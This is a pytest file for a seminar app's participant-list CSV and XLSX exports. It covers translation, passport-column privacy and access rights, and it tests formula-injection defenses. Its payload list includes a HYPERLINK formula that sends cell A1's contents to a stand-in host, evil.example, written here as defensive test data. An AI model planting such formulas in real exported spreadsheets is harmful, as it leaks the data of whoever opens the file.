"""CSV and XLSX exports of the participant list: columns, languages, privacy, injection."""

import csv
import io
import re
import xml.etree.ElementTree as ET
import zipfile
from datetime import date

import pytest

from seminar_app.models import Honorific, RegistrationAnswer, RegistrationStatus
from seminar_app.services.documents.exports import neutralize_formula
from seminar_app.services.registration.questions import add_question
from tests.factories import add_registration, add_team_member, logged_in
from tests.public_factories import create_event

NS = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
PAYLOADS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "-2", "@SUM(A1:A2)",
            "\t=1", "\r=1"]



def parse_xml(data):
    """Parse XML this app wrote itself (trusted input)."""
    return ET.fromstring(data)  # noqa: S314 - our own output, not untrusted data


@pytest.fixture
def owner(make_user):
    return make_user("organizer")


@pytest.fixture
def event(owner):
    return create_event(owner, slug="asean-forum", country_quota=3)


def read_csv(response) -> list[list[str]]:
    text = response.get_data().decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


def _ooxml_text(element) -> str:
    """A cell's text, with OOXML's _xHHHH_ escapes (for control characters) decoded."""
    text = "".join(t.text or "" for t in element.iter(f"{NS}t"))
    return re.sub(r"_x([0-9A-Fa-f]{4})_", lambda m: chr(int(m.group(1), 16)), text)


def read_xlsx(data: bytes) -> list[list[str]]:
    """Cell texts of the first sheet (inline and shared strings), row by row."""
    archive = zipfile.ZipFile(io.BytesIO(data))
    shared = []
    if "xl/sharedStrings.xml" in archive.namelist():
        root = parse_xml(archive.read("xl/sharedStrings.xml"))
        shared = [_ooxml_text(si) for si in root.iter(f"{NS}si")]
    sheet = parse_xml(archive.read("xl/worksheets/sheet1.xml"))
    rows = []
    for row in sheet.iter(f"{NS}row"):
        cells = []
        for cell in row.iter(f"{NS}c"):
            assert cell.find(f"{NS}f") is None, "a formula was written"
            kind = cell.get("t")
            if kind == "s":
                cells.append(shared[int(cell.find(f"{NS}v").text)])
            elif kind is None and cell.get("s"):  # a date cell: a styled serial number
                cells.append(cell.find(f"{NS}v").text)
            else:
                assert kind == "inlineStr", f"cell {cell.get('r')} is not a string: {kind}"
                cells.append(_ooxml_text(cell))
        rows.append(cells)
    return rows, sheet


@pytest.mark.parametrize("payload", PAYLOADS)
def test_neutralize_formula_quotes_triggers(payload):
    # a tab or CR is a separator too: the formula after it is guarded as well
    assert neutralize_formula(payload) == "'" + payload.replace("\t=", "\t'=").replace(
        "\r=", "\r'=")
    assert neutralize_formula("Budi") == "Budi"


def test_export_csv_columns_and_formula_injection(app, event, owner):
    for index, payload in enumerate(PAYLOADS):
        add_registration(event, given_name=payload, organisation="Ministry",
                         email=f"x{index}@example.org")
    client = logged_in(app, owner)
    response = client.get(f"/manage/events/{event.id}/export.csv?lang=en&sort=created&order=asc")
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert re.fullmatch(r'attachment; filename=asean-forum-participants-\d{4}-\d\d-\d\d\.csv',
                        disposition)
    rows = read_csv(response)
    header = rows[0]
    assert header[:4] == ["Reference", "Honorific", "Given name", "Family name"]
    assert "Passport number" in header  # the owner is an organizer
    given = [row[header.index("Given name")] for row in rows[1:]]
    assert given == [neutralize_formula(payload) for payload in PAYLOADS]
    assert given[0] == "'" + PAYLOADS[0]
    for row in rows[1:]:
        assert not row[header.index("Given name")].startswith(("=", "+", "-", "@", "\t", "\r"))


def test_export_csv_in_indonesian_translates_values(app, event, owner):
    add_registration(event, country="DE", honorific=Honorific.MR,
                     status=RegistrationStatus.WAITLISTED, needs_visa_letter=True,
                     passport_number="C01X00T47", nationality="DE",
                     birth_date=date(1970, 1, 2), passport_expiry=date(2035, 1, 1))
    client = logged_in(app, owner)
    english = read_csv(client.get(f"/manage/events/{event.id}/export.csv?lang=en"))
    indonesian = read_csv(client.get(f"/manage/events/{event.id}/export.csv?lang=id"))
    en, id_ = dict(zip(english[0], english[1], strict=True)), indonesian[1]
    assert en["Country"] == "Germany" and "Jerman" in id_
    assert en["Nationality"] == "Germany" and en["Date of birth"] == "1970-01-02"
    assert en["Visa letter"] == "Yes" and en["Status"] == "On the waiting list"
    assert english[0] != indonesian[0]  # headers are translated
    assert en["Registered at"].endswith("WIB")


def test_export_passport_columns_only_for_organizers(app, event, make_user):
    add_registration(event, needs_visa_letter=True, passport_number="SECRET123")
    viewer = make_user("staff")
    add_team_member(event, viewer, can_checkin=True)
    client = logged_in(app, viewer)
    csv_text = client.get(f"/manage/events/{event.id}/export.csv?lang=en").get_data(as_text=True)
    assert "SECRET123" not in csv_text and "Passport number" not in csv_text
    xlsx = client.get(f"/manage/events/{event.id}/export.xlsx?lang=en").get_data()
    rows, _sheet = read_xlsx(xlsx)
    assert "Passport number" not in rows[0]
    assert not any("SECRET123" in cell for row in rows for cell in row)


def test_export_follows_the_list_filters(app, event, owner):
    add_registration(event, given_name="Ana", country="PT")
    add_registration(event, given_name="Budi", country="ID", status=RegistrationStatus.CANCELLED)
    add_registration(event, given_name="Citra", country="ID")
    client = logged_in(app, owner)
    rows = read_csv(client.get(f"/manage/events/{event.id}/export.csv?country=ID&status=confirmed"))
    assert [row[2] for row in rows[1:]] == ["Citra"]


def test_export_has_one_column_per_extra_question(app, event, owner, db):
    meal = add_question(event, label="Meal", kind="choice", choices=["Halal", "Vegetarian"])
    coming = add_question(event, label="Joins the dinner", kind="yes_no")
    registration = add_registration(event)
    db.session.add_all([
        RegistrationAnswer(registration_id=registration.id, question_id=meal.id, value="Halal"),
        RegistrationAnswer(registration_id=registration.id, question_id=coming.id, value="yes"),
    ])
    db.session.commit()
    rows = read_csv(logged_in(app, owner).get(f"/manage/events/{event.id}/export.csv?lang=en"))
    assert rows[0][-2:] == ["Meal", "Joins the dinner"]
    assert rows[1][-2:] == ["Halal", "Yes"]


def test_export_xlsx_strings_header_and_filter(app, event, owner):
    for index, payload in enumerate(PAYLOADS):
        add_registration(event, given_name=payload, email=f"x{index}@example.org",
                         family_name="Ñoño 山田 محمد")
    response = logged_in(app, owner).get(
        f"/manage/events/{event.id}/export.xlsx?lang=id&sort=created&order=asc")
    assert response.status_code == 200
    assert response.headers["Content-Disposition"].endswith(".xlsx")
    rows, sheet = read_xlsx(response.get_data())
    assert len(rows) == len(PAYLOADS) + 1
    assert [row[2] for row in rows[1:]] == PAYLOADS  # kept as text, never a formula
    assert rows[1][3] == "Ñoño 山田 محمد"
    assert sheet.find(f"{NS}autoFilter") is not None
    pane = sheet.find(f"{NS}sheetViews/{NS}sheetView/{NS}pane")
    assert pane is not None and pane.get("state") == "frozen" and pane.get("ySplit") == "1"


def test_export_of_an_empty_event_is_a_header(app, event, owner):
    client = logged_in(app, owner)
    assert len(read_csv(client.get(f"/manage/events/{event.id}/export.csv"))) == 1
    rows, _sheet = read_xlsx(client.get(f"/manage/events/{event.id}/export.xlsx").get_data())
    assert len(rows) == 1


def test_export_needs_the_team(app, event, make_user):
    client = logged_in(app, make_user("staff"))
    assert client.get(f"/manage/events/{event.id}/export.csv").status_code == 403
    assert client.get(f"/manage/events/{event.id}/export.xlsx").status_code == 403
